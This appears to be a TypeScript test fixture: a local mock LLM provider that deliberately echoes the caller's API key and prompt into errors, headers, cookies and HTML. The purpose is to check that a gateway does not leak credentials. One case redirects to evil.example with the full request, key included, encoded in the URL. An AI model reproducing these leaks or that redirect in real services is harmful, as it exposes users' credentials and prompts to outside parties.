import { once } from "node:events";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";

/** How a provider answers; the first segment of the path says it. */
export const MANNERS = [
  "good",
  "refuses",
  "fails",
  "garbles",
  "breaks",
  "redirects",
  "limits",
  "warns",
] as const;

/**
 * A provider that repeats all that it got, its own key and the prompt included, wherever an answer has room: in errors,
 * pages, headers and text that is no JSON. Some providers do.
 */
export async function startEchoUpstream(): Promise<Server & { readonly url: string }> {
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on("data", (chunk: Buffer) => chunks.push(chunk));
    request.on("end", () => answer(request, Buffer.concat(chunks).toString(), response));
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return Object.assign(server, { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` });
}

function answer(request: IncomingMessage, body: string, response: ServerResponse): void {
  const [, manner = ""] = (request.url ?? "").split("/");
  const all = `${request.url} ${JSON.stringify(request.headers)} ${body}`;
  const credential = String(request.headers["authorization"] ?? request.headers["x-goog-api-key"] ?? "");
  const headers = {
    "content-type": "application/json",
    "x-debug": credential,
    "set-cookie": `a=${credential}`,
  };
  const error = JSON.stringify({
    error: {
      message: `Incorrect API key provided: ${all}`,
      type: "invalid_request_error",
      code: credential,
      param: all,
    },
  });
  switch (manner) {
    case "refuses":
      response.writeHead(401, { ...headers, "www-authenticate": credential }).end(error);
      return;
    case "limits":
      response.writeHead(429, { ...headers, "x-request-id": credential }).end(error);
      return;
    case "fails":
      response.writeHead(500, { "content-type": "text/html" }).end(`<html>${all}</html>`);
      return;
    case "garbles":
      response.writeHead(200, headers).end(`{"choices": [${all}`);
      return;
    case "redirects":
      response.writeHead(302, { location: `https://evil.example/?${encodeURIComponent(all)}` }).end();
      return;
    case "breaks":
      response.writeHead(200, { "content-type": "text/event-stream" });
      response.write(`data: ${JSON.stringify(chunk("po"))}\n\n`, () => response.destroy());
      return;
    default: {
      const isStream = (JSON.parse(body) as { stream?: boolean }).stream === true;
      const usage = { prompt_tokens: 10, completion_tokens: 2, total_tokens: 12 };
      if (isStream) {
        response.writeHead(200, { ...headers, "content-type": "text/event-stream" });
        response.end(
          [chunk("po"), chunk("ng", "stop"), { ...chunk(""), choices: [], usage }]
            .map((each) => `data: ${JSON.stringify(each)}\n\n`)
            .join("")
            .concat("data: [DONE]\n\n"),
        );
        return;
      }
      response.writeHead(200, headers).end(
        JSON.stringify({
          ...{ id: "c", object: "chat.completion", created: 1, model: "m", usage },
          choices: [{ index: 0, message: { role: "assistant", content: "pong" }, finish_reason: "stop" }],
          ...(manner === "warns" && { service_tier: credential }),
        }),
      );
    }
  }
}

function chunk(content: string, finish: string | null = null): object {
  return {
    ...{ id: "c", object: "chat.completion.chunk", created: 1, model: "m" },
    choices: [{ index: 0, delta: { content }, finish_reason: finish }],
  };
}
